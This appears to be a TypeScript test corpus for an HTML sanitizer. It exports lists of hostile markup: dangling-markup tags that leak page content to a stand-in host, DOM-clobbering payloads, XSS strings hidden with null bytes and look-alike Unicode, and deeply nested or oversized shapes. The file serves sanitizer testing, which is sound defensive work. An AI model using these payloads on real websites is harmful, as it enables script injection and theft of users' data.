import { HOME, HOST, RUN } from './marks.ts'

/** Markup that takes in what follows it. */
const DANGLING: readonly string[] = [
  `<img src='${HOME}?`,
  `<img src="${HOME}?`,
  `<a href='${HOME}?`,
  `<a target='`,
  `<base target='`,
  `<form action='${HOME}'><textarea name=x>`,
  `<form action='${HOME}'><button>press</button><option name=`,
  `<style>@import//${HOST}?`,
  `<style>@import '${HOME}?`,
  `<p style="background:url(${HOME}?`,
  `<link rel=stylesheet href='${HOME}?`,
  `<meta http-equiv=refresh content='0;url=${HOME}?`,
  `<iframe src='${HOME}?`,
  `<script src='${HOME}?`,
  `<!--`,
  `<svg><style>`,
  `<xmp>`,
  `<button formaction='${HOME}?`,
]

/** Names that stand in for what a document has by itself. */
const CLOBBERING: readonly string[] = [
  `<img name=cookie><img name=body><img name=getElementById>`,
  `<form id=document><input name=cookie></form>`,
  `<form name=body><input name=append></form>`,
  `<a id=location href="${HOME}"></a><a id=location name=href></a>`,
  `<a id=top href="javascript:${RUN}">press</a>`,
  `<iframe name=parent srcdoc="<a id=document></a>"></iframe>`,
  `<form id=x><input name=attributes><input name=nodeName><img src=x onerror=${RUN}></form>`,
  `<form><input name=parentNode><input name=removeChild><input name=firstChild></form>`,
  `<form onclick=${RUN}><input name=attributes>press</form>`,
  `<form><input id=nodeType><input id=namespaceURI><input id=tagName></form>`,
  `<img id=trustedTypes><a id=trustedTypes name=createPolicy></a>`,
  `<a id=paydesk></a><a id=paydesk name=call href="javascript:${RUN}"></a>`,
  `<div id=root>x</div><div id=root>y</div>`,
  `<object id=x><object id=y name=z></object></object>`,
  `<embed name=querySelector><embed name=createElement>`,
  `<input form=x id=__proto__><input id=constructor>`,
  `<p class="paper" data-drawn=true>x</p>`,
  `<slot name=x onslotchange=${RUN}>y</slot>`,
]

/** Letters that are not what they seem. */
const LETTERS: readonly string[] = [
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<img src=x on\u0000error=${RUN}>`,
  `<img src=x\u0000 onerror=${RUN}>`,
  `<img\u000Csrc=x\u000Conerror=${RUN}>`,
  `<img\u000Bsrc=x\u000Bonerror=${RUN}>`,
  `<img src=x onerror\u00A0=${RUN}>`,
  `<img src=x \u2028onerror=${RUN}>`,
  `\u3008script\u3009${RUN}\u3008/script\u3009`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `<\u017Fcript>${RUN}</\u017Fcript>`,
  `<\u017Fvg onload=${RUN}>`,
  `<IMG SRC=x ONERROR\u0130=${RUN}>`,
  `<a href="java\u0000script:${RUN}">press</a>`,
  `<a href="\u0001javascript:${RUN}">press</a>`,
  `<a href="javascript\uFF1A${RUN}">press</a>`,
  `\uFEFF<script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u202E<img src=x onerror=${RUN}>`,
  `<img src=x alt="\uD800" onerror=${RUN}>`,
  `\u001B(J<script>${RUN}</script>`,
  `<a\u200Bhref="javascript:${RUN}">press</a>`,
  `<p>&lt;script&gt;${RUN}&lt;/script&gt;`,
]

/** Shapes near the limits of what main keeps (safety H3). */
const SHAPES: readonly string[] = [
  `${'<div>'.repeat(60)}<img src="${HOME}.png">`,
  `${'<b>'.repeat(60)}<script>${RUN}</script>`,
  `${'<table><tr><td>'.repeat(20)}<a href="${HOME}">press</a>`,
  `${'<svg>'.repeat(30)}<image href="${HOME}.png"/>`,
  `${'<math><mtext>'.repeat(30)}<img src=x onerror=${RUN}>`,
  `${'<form>'.repeat(60)}<img src=x onerror=${RUN}>`,
  `${'<select><option>'.repeat(30)}<img src=x onerror=${RUN}>`,
  `${'<a>'.repeat(60)}<a href="javascript:${RUN}">press`,
  `${'<p>x'.repeat(1000)}<img src="${HOME}.png">`,
  `<p title="${'x'.repeat(60_000)}"><img src="${HOME}.png">`,
  `<p>${'&lt;img src=x&gt;'.repeat(3000)}<script>${RUN}</script>`,
  `${'</div>'.repeat(1000)}<img src=x onerror=${RUN}>`,
  `${'</body></html>'.repeat(10)}<img src="${HOME}.png">`,
]

export const oddities: readonly string[] = [...DANGLING, ...CLOBBERING, ...LETTERS, ...SHAPES]
